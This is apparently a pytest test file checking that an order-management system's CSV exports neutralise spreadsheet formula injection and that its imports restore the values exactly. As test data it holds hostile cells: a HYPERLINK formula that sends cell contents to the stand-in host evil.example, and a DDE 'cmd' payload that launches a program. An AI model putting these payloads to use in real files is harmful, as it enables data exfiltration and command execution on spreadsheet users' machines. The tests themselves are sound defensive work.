"""CSV formula injection: every export quotes formula-like cells, every import reads them back.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return runs as a formula in a
spreadsheet. Exports write ``'`` in front (and ``''`` for a cell that starts with a quote); the
product's imports remove exactly that quote, so export → import is exact. Plain numbers stay as
they are (a negative quantity is not a formula).
"""

from __future__ import annotations

import csv
import io

import pytest

from openoms.catalog.imports import product_import_run, product_import_start, products_csv
from openoms.catalog.models import Product, ProductVariant
from openoms.channels.models import SkuMapping
from openoms.channels.sku_mapping_csv import (
    sku_mapping_import_run,
    sku_mapping_import_start,
    sku_mappings_csv,
)
from openoms.core.csv_files import CsvReader, csv_chunks, formula_escaped, formula_unescaped
from openoms.inventory.imports import (
    inventory_import_run,
    inventory_import_start,
    inventory_levels_csv,
)
from openoms.inventory.models import InventoryLevel
from openoms.tenancy.actor import Actor
from openoms.tenancy.roles import Role
from tests.channels.sku_mapping_files import make_channel
from tests.factories import make_api_key
from tests.file_imports import upload, uploads  # noqa: F401 -- a fixture
from tests.inventory.stock import enable, make_warehouse, set_level

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "@SUM(A1)",
    "-2+3",
    "'quoted",
    "'=already quoted",
    "''",
    "=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(exported: str) -> list[list[str]]:
    """The raw cells of an exported file, as a spreadsheet would read them (no unescaping)."""
    return list(csv.reader(io.StringIO(exported)))


def assert_no_formula(exported: str) -> None:
    for row in cells(exported)[1:]:
        for cell in row:
            number = cell.lstrip("-").replace(".", "", 1)
            assert not cell.startswith(FORMULA_STARTS) or number.isdigit(), cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("'quoted", "''quoted"),
        ("'", "''"),
        ("-3", "-3"),
        ("-2.50", "-2.50"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),
        ("A=1", "A=1"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_each_cell_is_escaped_and_read_back_exactly(value, written):
    # when
    escaped = formula_escaped(value)
    # then
    assert escaped == written
    if isinstance(value, str):
        assert formula_unescaped(escaped) == value


@pytest.mark.parametrize("field", ["'quoted", "'x'", "it's", "'1", "'"])
def test_an_imported_quote_that_guards_nothing_is_kept(field):
    # when / then
    assert formula_unescaped(field) == field


def test_the_writer_and_the_reader_round_trip_every_hostile_cell():
    # given
    rows = [[value, -3] for value in [*HOSTILE, "\tlead tab", "\rlead cr", "-7"]]
    # when
    exported = "".join(csv_chunks(["A", "B"], rows))
    reader = CsvReader(io.BytesIO(exported.encode()))
    # then
    assert_no_formula(exported)
    assert [fields for _, fields in reader] == [[value, "-3"] for value, _ in rows]


@pytest.fixture
def actor(tenant):
    """An organization administrator: it sees both accounts."""
    return Actor.for_user(tenant.user(Role.ORGANIZATION_ADMINISTRATOR))


def catalog(account) -> list[tuple]:
    return list(
        ProductVariant.objects.filter(account=account)
        .order_by("sku")
        .values_list("product__name", "product__description", "sku", "name", "price")
    )


@pytest.mark.usefixtures("uploads")
def test_products_round_trip_with_hostile_names_and_skus(tenant, actor):
    # given: hostile product names, descriptions, SKUs and variant names
    for number, value in enumerate(HOSTILE):
        product = Product.objects.create(
            account=tenant.account, name=value, description=f"{value} described"
        )
        ProductVariant.objects.create(
            account=tenant.account, product=product, sku=value, name=value, price=number
        )
    # when: exported, then imported into the account's twin
    exported = "".join(products_csv(actor=actor, account=tenant.account))
    started = product_import_start(
        actor=actor, account=tenant.second_account, upload=upload(exported, "P_Products.csv")
    )
    finished = product_import_run(started.pk)
    # then
    assert_no_formula(exported)
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in exported
    assert (finished.rejected_count, finished.created_count) == (0, len(HOSTILE))
    assert catalog(tenant.second_account) == catalog(tenant.account)


@pytest.mark.usefixtures("uploads")
def test_levels_round_trip_with_hostile_skus_and_warehouse(tenant, actor):
    # given
    warehouse = make_warehouse(tenant.organization, "=WH")
    enable(tenant.account, warehouse)
    product = Product.objects.create(account=tenant.account, name="Tee")
    for number, sku in enumerate(HOSTILE, start=1):
        variant = ProductVariant.objects.create(account=tenant.account, product=product, sku=sku)
        set_level(tenant.account, variant, warehouse, number)
    exported = "".join(inventory_levels_csv(actor=actor, account=tenant.account))
    InventoryLevel.objects.filter(account=tenant.account).update(total=0)
    # when
    started = inventory_import_start(
        actor=actor, account=tenant.account, upload=upload(exported, "IL_Inventory_Levels.csv")
    )
    finished = inventory_import_run(started.pk)
    # then
    assert_no_formula(exported)
    assert exported.splitlines()[1].startswith("'=WH,")
    assert (finished.rejected_count, finished.updated_count) == (0, len(HOSTILE))
    levels = InventoryLevel.objects.filter(account=tenant.account)
    assert dict(levels.values_list("variant__sku", "total")) == {
        sku: number for number, sku in enumerate(HOSTILE, start=1)
    }


@pytest.mark.usefixtures("uploads")
def test_sku_mappings_round_trip_with_hostile_skus(tenant, actor):
    # given: each hostile SKU is mapped under a hostile channel SKU
    source, target = make_channel(tenant.account, "Source"), make_channel(tenant.account, "Target")
    product = Product.objects.create(account=tenant.account, name="Tee")
    for value in HOSTILE:
        variant = ProductVariant.objects.create(account=tenant.account, product=product, sku=value)
        SkuMapping.objects.create(
            account=tenant.account, channel=source, channel_sku=f"@{value}", variant=variant
        )
    exported = "".join(sku_mappings_csv(actor=actor, channel=source))
    # when
    started = sku_mapping_import_start(
        actor=actor, channel=target, upload=upload(exported, "C_SKU_Mappings.csv")
    )
    finished = sku_mapping_import_run(started.pk)
    # then
    assert_no_formula(exported)
    assert (finished.rejected_count, finished.created_count) == (0, len(HOSTILE))
    assert dict(target.sku_mappings.values_list("channel_sku", "variant__sku")) == {
        f"@{value}": value for value in HOSTILE
    }


def test_web_and_api_downloads_are_escaped(tenant, login, client):
    # given
    warehouse = make_warehouse(tenant.organization, "EAST")
    enable(tenant.account, warehouse)
    product = Product.objects.create(account=tenant.account, name="=cmd|' /C calc'!A0")
    variant = ProductVariant.objects.create(account=tenant.account, product=product, sku="@SKU")
    set_level(tenant.account, variant, warehouse, 4)
    channel = make_channel(tenant.account)
    SkuMapping.objects.create(
        account=tenant.account, channel=channel, channel_sku="+CH", variant=variant
    )
    key = make_api_key(tenant.account)
    login(tenant.user(Role.ACCOUNT_USER))
    # when
    downloads = {
        "products": client.get("/products/export/"),
        "levels": client.get("/inventory/export/"),
        "mappings": client.get(f"/sales-channels/{channel.pk}/sku-mappings/export/"),
        "api mappings": client.get(
            f"/api/v2/channels/{channel.pk}/sku-mappings/export", headers={"X-API-Key": key}
        ),
    }
    texts = {
        name: b"".join(response.streaming_content).decode() for name, response in downloads.items()
    }
    # then
    assert {name: response.status_code for name, response in downloads.items()} == dict.fromkeys(
        downloads, 200
    )
    assert cells(texts["products"])[1][:2] == ["'=cmd|' /C calc'!A0", "'@SKU"]
    assert cells(texts["levels"])[1] == ["EAST", "'@SKU", "4"]
    assert cells(texts["mappings"])[1] == ["'@SKU", "'+CH"]
    assert texts["api mappings"] == texts["mappings"]
